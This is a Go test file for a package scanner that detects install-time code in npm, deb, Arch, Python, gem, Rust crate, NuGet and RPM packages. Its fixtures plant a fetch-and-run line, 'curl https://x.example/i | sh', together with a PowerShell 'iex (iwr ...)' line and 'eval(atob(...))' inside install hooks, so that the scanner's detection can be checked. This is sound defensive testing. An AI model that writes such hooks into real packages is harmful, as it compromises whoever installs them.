package content

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"slices"
	"strings"
	"testing"

	"assize.dev/shared/archive"
	"assize.dev/shared/event"
)

const evil = "curl https://x.example/i | sh"

// TestWhatRuns has what each kind of package runs, and does, at installation,
// and the same file where it does not run.
func TestWhatRuns(t *testing.T) {
	deb := func(entries ...entry) []entry {
		return []entry{file("debian-binary", "2.0\n"), file("control.tar.gz", string(tgz(t, entries...)))}
	}
	for name, test := range map[string]struct {
		format  string
		entries []entry
		want    []string
	}{
		"npm runs a file": {formatNPM, []entry{file("package/package.json", `{"scripts":{"postinstall":"node ./lib/setup"}}`), file("package/lib/setup.js", "x;\neval(atob('eA'))")},
			[]string{"decoded-code high package/lib/setup.js:2", "install-script info package/package.json:0"}},
		"npm runs a file that came before": {formatNPM, []entry{file("package/a.sh", evil), file("package/package.json", `{"scripts":{"install":"bash a.sh"}}`)},
			[]string{"install-script info package/package.json:0", "pipe-to-shell high package/a.sh:1"}},
		"npm does not run a file": {formatNPM, []entry{file("package/lib/setup.js", "eval(atob('eA'))"), file("package/package.json", `{"scripts":{"test":"node ./lib/setup"}}`)}, nil},
		"npm file of others":      {formatNPM, []entry{file("package/package.json", `{"scripts":{"install":"node ../../x.js /etc/y.js"}}`)}, []string{"install-script info package/package.json:0"}},
		"npm prepares":            {formatNPM, []entry{file("package/package.json", `{"scripts":{"prepare":"`+evil+`"}}`)}, []string{"install-script info package/package.json:0", "pipe-to-shell medium package/package.json:1"}},
		"npm commands":            {formatNPM, []entry{file("package/package.json", `{"scripts":{"preinstall":"`+evil+`"}}`)}, []string{"install-script info package/package.json:0", "pipe-to-shell high package/package.json:1"}},
		"package.json in a jar":   {"jar", []entry{file("package/package.json", `{"scripts":{"preinstall":"`+evil+`"}}`)}, nil},
		"deb triggers":            {formatDeb, deb(file("./triggers", "interest x")), []string{"install-script info control.tar.gz!triggers:0"}},
		"deb script":              {formatDeb, deb(file("./postinst", "#!/bin/sh\n"+evil)), []string{"install-script info control.tar.gz!postinst:0", "pipe-to-shell high control.tar.gz!postinst:2"}},
		"deb program":             {formatDeb, deb(file("./preinst", "\x7fELF")), []string{"install-script-unread low control.tar.gz!preinst:0"}},
		"deb file":                {formatDeb, deb(file("./md5sums", evil)), nil},
		"arch functions":          {formatArch, []entry{file(".INSTALL", "post_install() {\n  "+evil+"\n}\n")}, []string{"install-script info .INSTALL:0", "pipe-to-shell high .INSTALL:2"}},
		"arch hook":               {formatArch, []entry{file("usr/share/libalpm/hooks/x.hook", "Exec = /usr/bin/x"), file("etc/x.hook", "Exec = x")}, []string{"install-script info usr/share/libalpm/hooks/x.hook:0"}},
		"apk":                     {formatAPK, []entry{file(".post-install", evil), file("usr/.post-install", evil)}, []string{"install-script info .post-install:0", "pipe-to-shell high .post-install:1"}},
		"setup.py":                {formatSdist, []entry{file("a-1/setup.py", "import os\nos.system('"+evil+"')"), file("a-1/a/setup.py", evil)}, []string{"install-script info a-1/setup.py:0", "pipe-to-shell high a-1/setup.py:2"}},
		"own backend":             {formatSdist, []entry{file("a-1/pyproject.toml", "[build-system]\nbuild-backend = \"be.main:api\"\nbackend-path = [\"tools\"]\n"), file("a-1/tools/be/main.py", evil)}, []string{"install-script info a-1/pyproject.toml:0", "pipe-to-shell high a-1/tools/be/main.py:1"}},
		"usual backend":           {formatSdist, []entry{file("a-1/pyproject.toml", "build-backend = \"flit_core.buildapi\"\n")}, []string{"install-script info a-1/pyproject.toml:0"}},
		"no backend":              {formatSdist, []entry{file("a-1/pyproject.toml", "[tool.black]\n")}, nil},
		"extension of a gem":      {formatGem, []entry{file("data.tar.gz", string(tgz(t, file("ext/x/extconf.rb", evil), file("lib/extconf.rb", evil))))}, []string{"install-script info data.tar.gz!ext/x/extconf.rb:0", "pipe-to-shell high data.tar.gz!ext/x/extconf.rb:1"}},
		"plugin of RubyGems":      {formatGem, []entry{file("data.tar.gz", string(tgz(t, file("lib/rubygems_plugin.rb", "x"))))}, []string{"install-script info data.tar.gz!lib/rubygems_plugin.rb:0"}},
		"build.rs":                {formatCrate, []entry{file("a-1/build.rs", `Command::new("sh").arg("-c").arg("`+evil+`")`)}, []string{"install-script info a-1/build.rs:0", "pipe-to-shell high a-1/build.rs:1"}},
		"build script elsewhere":  {formatCrate, []entry{file("a-1/Cargo.toml", "[package]\nbuild = \"src/make.rs\"\n"), file("a-1/src/make.rs", "// x\n"+evil)}, []string{"install-script info a-1/Cargo.toml:0", "pipe-to-shell high a-1/src/make.rs:2"}},
		"macros":                  {formatCrate, []entry{file("a-1/Cargo.toml", "[lib]\nproc-macro = true\n")}, []string{"install-script info a-1/Cargo.toml:0"}},
		"an ordinary crate":       {formatCrate, []entry{file("a-1/Cargo.toml", "[package]\nname = \"build\"\n")}, nil},
		"NuGet":                   {formatNupkg, []entry{file("tools/Install.ps1", "iex (iwr https://x.example/i)"), file("lib/install.ps1", "x"), file("build/net8.0/x.targets", "<Project/>")}, []string{"install-script info build/net8.0/x.targets:0", "install-script info tools/Install.ps1:0", "pipe-to-shell high tools/Install.ps1:1"}},
	} {
		t.Run(name, func(t *testing.T) {
			if got := short(examine(t, test.format, tgz(t, test.entries...), archive.Limits{}).Findings); !slices.Equal(got, test.want) {
				t.Errorf("%q, want %q", got, test.want)
			}
		})
	}
}

// short is findings without their class, in order.
func short(all []event.Finding) []string {
	var out []string
	for _, f := range all {
		out = append(out, strings.TrimPrefix(f.ID, "content/")+" "+string(f.Severity)+" "+f.Location+":"+itoa(f.Line))
	}
	slices.Sort(out)
	return out
}

func zipOf(t testing.TB, nameAndBody ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	z := zip.NewWriter(&buf)
	for i := 0; i < len(nameAndBody); i += 2 {
		w, err := z.Create(nameAndBody[i])
		if err == nil {
			_, err = w.Write([]byte(nameAndBody[i+1]))
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestPythonStart has code that runs at every start of Python, and what
// well-known tools write in its place.
func TestPythonStart(t *testing.T) {
	const namespace = "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('x',))\n"
	for name, test := range map[string]struct {
		path, body string
		want       []string
	}{
		"code":                {"x.pth", "import os; os.system('" + evil + "')", []string{"pipe-to-shell high x.pth:1", "startup-code medium x.pth:0"}},
		"code in data":        {"a-1.data/purelib/x.pth", "import x", []string{"startup-code medium a-1.data/purelib/x.pth:0"}},
		"namespace":           {"x-nspkg.pth", namespace, []string{"install-script info x-nspkg.pth:0"}},
		"namespace, extended": {"x-nspkg.pth", namespace + "import y\n", []string{"startup-code medium x-nspkg.pth:0"}},
		"paths":               {"x.pth", "x\n# import y\n", nil},
		"not at the top":      {"x/y.pth", "import os", nil},
		"sitecustomize":       {"sitecustomize.py", "x = 1", []string{"install-script info sitecustomize.py:0"}},
		"another module":      {"x/sitecustomize.py", "x = 1", nil},
	} {
		t.Run(name, func(t *testing.T) {
			if got := short(examine(t, formatWheel, zipOf(t, test.path, test.body), archive.Limits{}).Findings); !slices.Equal(got, test.want) {
				t.Errorf("%q, want %q", got, test.want)
			}
		})
	}
}

// rpm is a package with a post-install script and a payload of no files.
func rpm(script string) []byte {
	section := func(tag uint32, value string) []byte {
		b := append([]byte("\x8e\xad\xe8\x01\x00\x00\x00\x00"), 0, 0, 0, 1)
		b = binary.BigEndian.AppendUint32(b, uint32(len(value)+1))
		for _, n := range []uint32{tag, 6, 0, 1} {
			b = binary.BigEndian.AppendUint32(b, n)
		}
		return append(append(b, value...), 0)
	}
	b := append([]byte("\xed\xab\xee\xdb\x03\x00"), make([]byte, 90)...)
	b = append(b, section(1000, "sevenby")...) // eight bytes with the NUL
	b = append(b, section(1024, script)...)
	return append(b, "07070100000000000000000000000000000000000000010000000000000000000000000000000000000000000000000000000b00000000TRAILER!!!\x00\x00\x00\x00"...)
}

func TestRPMScripts(t *testing.T) {
	want := []string{"install-script info :0", "pipe-to-shell high :1"}
	if got := short(examine(t, formatRPM, rpm(evil), archive.Limits{}).Findings); !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
	b := rpm(evil)
	at := bytes.LastIndex(b, []byte("\x00\x00\x04\x00\x00\x00\x00\x06"))
	b[at+7] = 99 // a type that no script has
	want = []string{"install-script-unread low :0"}
	if got := short(examine(t, formatRPM, b, archive.Limits{}).Findings); !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}

func TestPSPFCommands(t *testing.T) {
	got, err := pspfCommands([]byte(`{"setup_commands":["a",{"type":"execute","command":"b"},{"type":"write_file","path":"p","content":"c"},3],"execution":{"command":"d"}}`))
	want := []command{{what: "setup command", text: "a"}, {what: "setup command", text: "b"}, {what: "setup command", text: "write_file p: c"}, {what: "setup command", text: "3"}, {what: "command", text: "d"}}
	if err != nil || !slices.Equal(got, want) {
		t.Errorf("%+v, %v, want %+v", got, err, want)
	}
}

func TestFilesIn(t *testing.T) {
	for command, want := range map[string]string{
		"node install":                             "install",
		"node --no-warnings ./a/b.js --flag":       "a/b.js",
		`sh -c "bash ./x.sh" && python3 y.py`:      "bash,x.sh,y.py",
		"node-gyp rebuild":                         "",
		"tsc -p tsconfig.json || exit 0":           "",
		"node /usr/lib/x.js; npm run build":        "",
		"node -e \"require('./scripts/post.js')\"": "require,scripts/post.js",
	} {
		if got := strings.Join(filesIn(command), ","); got != want {
			t.Errorf("%q: %q, want %q", command, got, want)
		}
	}
}

func TestManyFollowed(t *testing.T) {
	f := findings{}
	for i := range maxFollowed + 1 {
		f.follow("x", itoa(i))
	}
	if len(f.followed) != maxFollowed || f.reason() == "" {
		t.Errorf("%d followed, reason %q", len(f.followed), f.reason())
	}
}
